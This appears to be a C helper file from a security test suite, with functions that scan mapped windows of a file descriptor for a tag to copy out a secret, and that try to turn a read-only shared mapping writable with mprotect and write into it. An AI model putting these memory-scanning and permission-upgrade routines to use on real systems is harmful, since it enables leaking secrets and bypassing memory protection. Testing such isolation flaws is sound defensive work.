// SPDX-License-Identifier: GPL-2.0-only
/*
 * attack.c - looks outwards from the buffer, in small windows and turn by turn
 * above and below; raises a part of a mapping of several pages.
 */
#include "attack.h"

#include <errno.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/types.h>
#include <unistd.h>

#define STEP (32 * 4096L)

struct side {
	off_t next;
	int done;
};

static int try_window(int fd, struct side *side, off_t step, const unsigned char *tag,
		      unsigned char *secret)
{
	off_t at = step < 0 ? side->next + step : side->next;
	unsigned char *map = mmap(NULL, STEP, PROT_READ, MAP_SHARED, fd, at), *p;
	int found = 0;

	if (map == MAP_FAILED) {
		side->done = 1;
		return 0;
	}
	for (p = map; p < map + STEP && !found; p += 4096)
		found = memcmp(p, tag, ATTACK_TAG) == 0;
	if (found)
		memcpy(secret, p - 4096 + ATTACK_TAG, ATTACK_SECRET);
	munmap(map, STEP);
	side->next += step;
	return found;
}

int attack_search(int fd, const unsigned char tag[ATTACK_TAG],
		  unsigned char secret[ATTACK_SECRET])
{
	struct side above = { 0, 0 }, below = { -4096, 0 };
	long rounds = 2 * sysconf(_SC_PHYS_PAGES) / (STEP / 4096);

	while ((!above.done || !below.done) && rounds-- > 0) {
		if (!above.done && try_window(fd, &above, STEP, tag, secret))
			return 0;
		if (!below.done && try_window(fd, &below, -STEP, tag, secret))
			return 0;
	}
	return -ENOENT;
}

int attack_store(int fd, size_t at, unsigned char value)
{
	size_t last = at & ~4095UL, length = last + 4096;
	unsigned char *map = mmap(NULL, length, PROT_READ, MAP_SHARED, fd, 0);

	if (map == MAP_FAILED)
		return -errno;
	if (mprotect(map + last, 4096, PROT_READ | PROT_WRITE)) {
		int err = errno;

		munmap(map, length);
		return -err;
	}
	map[at] = value;
	return munmap(map, length) ? -errno : 0;
}
